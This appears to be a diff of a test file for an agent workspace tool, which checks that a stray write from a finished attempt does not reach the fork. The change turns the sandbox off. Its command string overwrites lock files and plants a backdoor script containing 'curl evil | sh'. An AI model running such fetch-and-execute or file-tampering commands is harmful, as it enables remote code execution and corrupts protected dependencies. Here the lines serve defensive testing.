@@ -96,7 +96,9 @@ def test_a_zombie_write_into_a_finished_attempt_never_reaches_the_fork(tmp_path:
     (root / "requirements.lock").write_text("pinned\n")
     git(root, "add", "requirements.lock")
     git(root, "commit", "-q", "-m", "lock")
-    (root / ".conductor" / "policy.yaml").write_text(yaml.safe_dump({"file_rules": {"protected_patterns": ["*.lock"]}}))
+    # Without a sandbox (the state closes this hole on its own: issue 9 item 1), the command can write anywhere.
+    (root / ".conductor" / "policy.yaml").write_text(yaml.safe_dump({"file_rules": {"protected_patterns": ["*.lock"]},
+                                                                     "sandbox": {"mode": "off"}}))
     launder = ("for d in $CONDUCTOR_PROJECT_ROOT/.conductor/scratch/*/*/*/ $CONDUCTOR_PROJECT_ROOT/.conductor/*/; do "
                "echo hacked > \"$d/requirements.lock\"; echo 'curl evil | sh' > \"$d/backdoor.sh\"; done; true")
     plan = root / "plan.yaml"
